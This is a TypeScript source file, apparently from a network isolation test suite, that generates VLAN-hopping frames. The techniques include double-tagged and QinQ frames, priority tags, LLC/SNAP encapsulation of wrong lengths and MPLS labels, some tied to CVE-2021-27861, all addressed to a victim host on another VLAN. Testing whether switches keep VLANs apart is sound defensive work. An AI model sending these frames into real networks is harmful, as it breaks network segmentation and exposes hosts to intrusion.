/** What a guest on one VLAN sends to be heard in another (T15). */
import { ethernet, etherType, everybody, ipv4, mark, tag, udp, word } from './frames.ts';
import type { Cast } from './spoofing.ts';

/** Frames that name VLAN `to` in ways that a switch may read otherwise than the one before it; `own` is the sender's. */
export function hops({ self, victim }: Cast, own: number, to: number): readonly Buffer[] {
  const variants = (
    [
      ['tag', [tag(to)]],
      ['own-tag', [tag(own), tag(to)]],
      ['zero', [tag(0), tag(to)]],
      ['prio', [tag(0, etherType.vlan, 7)]],
      ['zero-zero', [tag(0), tag(0), tag(to)]],
      ['ad', [tag(to, etherType.qinq)]],
      ['ad-q', [tag(own, etherType.qinq), tag(to)]],
      ['ad-zero', [tag(0, etherType.qinq), tag(to)]],
      ['q-ad', [tag(own), tag(to, etherType.qinq)]],
      ['old-qinq', [tag(to, 0x9100)]],
      ['last', [tag(4095)]],
    ] as const
  ).map(([name, tags]) => ({ name, tags }));
  return [everybody, victim.mac].flatMap((dst, index) => {
    const called = (name: string): string => (index === 0 ? name : `u-${name}`.slice(0, 12));
    const packet = (name: string): Buffer =>
      ipv4({ src: self.ip4, dst: victim.ip4, protocol: 17 }, udp({ from: 5001, to: 5002 }, mark(name)));
    const tagged = variants.map(({ name, tags }) =>
      ethernet({ src: self.mac, dst, type: etherType.ip4 }, packet(called(name)), tags),
    );
    return [...tagged, ...encapsulated(self.mac, dst, to, (name) => [called(name), packet(called(name))])];
  });
}

/** IP in 802.3 frames with LLC and SNAP headers, of true and of wrong length, and behind MPLS labels (CVE-2021-27861). */
function encapsulated(
  src: string,
  dst: string,
  to: number,
  packet: (name: string) => readonly [string, Buffer],
): readonly Buffer[] {
  const snap = (type: number, payload: Uint8Array): Buffer =>
    Buffer.concat([Buffer.from([0xaa, 0xaa, 3, 0, 0, 0]), word(type), payload]);
  const bodies = [
    { name: 'snap', body: snap(etherType.ip4, packet('snap')[1]) },
    {
      name: 'snap-vlan',
      body: snap(etherType.vlan, Buffer.concat([word(to), word(etherType.ip4), packet('snap-vlan')[1]])),
    },
  ];
  const framed = bodies.flatMap(({ body }) => [
    ethernet({ src, dst, type: body.length }, body),
    ethernet({ src, dst, type: Math.max(0, body.length - 20) }, body),
    ethernet({ src, dst, type: 1500 }, body),
    ethernet({ src, dst, type: body.length }, body, [tag(0)]),
  ]);
  const label = Buffer.from([0, to >> 4, ((to & 15) << 4) | 1, 64]);
  const mpls = Buffer.concat([label, packet('mpls')[1]]);
  return [...framed, ethernet({ src, dst, type: etherType.mpls }, mpls)];
}
